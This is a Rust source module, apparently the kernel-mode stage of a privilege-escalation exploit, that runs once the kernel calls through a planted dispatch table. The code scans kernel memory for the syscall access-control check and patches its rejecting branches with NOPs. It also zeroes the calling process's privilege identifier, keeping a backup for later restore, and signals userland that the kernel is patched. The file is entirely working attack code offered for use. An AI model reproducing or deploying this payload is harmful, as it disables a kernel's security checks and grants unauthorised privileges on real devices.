//! code that runs with kernel privilege once the kernel calls through the
//! planted dispatch table, plus the privilege-identifier patch and restore.

use crate::exploit::ProcessState;
use crate::layout::{
    self, ACCESS_CHECK_SIG, ARM_NOP, CURRENT_KPROCESS_PTR, KERNEL_CODE_BASE, KERNEL_CODE_WORDS,
};
use crate::svc::KernelMem;

/// executed in kernel context when the hijacked object is released.
///
/// scans the kernel code region for the syscall access-control check and
/// blanks the two branches that reject the caller, flushes the caches,
/// zeroes the privilege identifier of the calling process and raises the
/// patched flag userland is spinning on.
pub fn kernel_entry(kmem: &mut dyn KernelMem, state: &ProcessState) {
    let mut addr = KERNEL_CODE_BASE;
    // stop three words short so the last compare stays inside the region
    for _ in 0..KERNEL_CODE_WORDS - 3 {
        if kmem.read_u32(addr) == ACCESS_CHECK_SIG[0]
            && kmem.read_u32(addr + 4) == ACCESS_CHECK_SIG[1]
            && kmem.read_u32(addr + 8) == ACCESS_CHECK_SIG[2]
            && kmem.read_u32(addr + 12) == ACCESS_CHECK_SIG[3]
        {
            kmem.write_u32(addr, ARM_NOP);
            kmem.write_u32(addr + 8, ARM_NOP);
        }
        addr = addr.wrapping_add(4);
    }
    kmem.invalidate_caches();
    patch_pid(kmem, state);
    state.set_kernel_patched();
}

/// zero the privilege-identifier field of the current process object,
/// keeping the original value around for [`unpatch_pid`].
pub fn patch_pid(kmem: &mut dyn KernelMem, state: &ProcessState) {
    let field = pid_field(kmem, state);
    state.set_pid_backup(kmem.read_u32(field));
    kmem.write_u32(field, 0);
}

/// put the saved privilege identifier back.
pub fn unpatch_pid(kmem: &mut dyn KernelMem, state: &ProcessState) {
    let field = pid_field(kmem, state);
    kmem.write_u32(field, state.pid_backup());
}

fn pid_field(kmem: &mut dyn KernelMem, state: &ProcessState) -> u32 {
    let kprocess = kmem.read_u32(CURRENT_KPROCESS_PTR);
    kprocess + layout::pid_offset(state.newer_hardware())
}
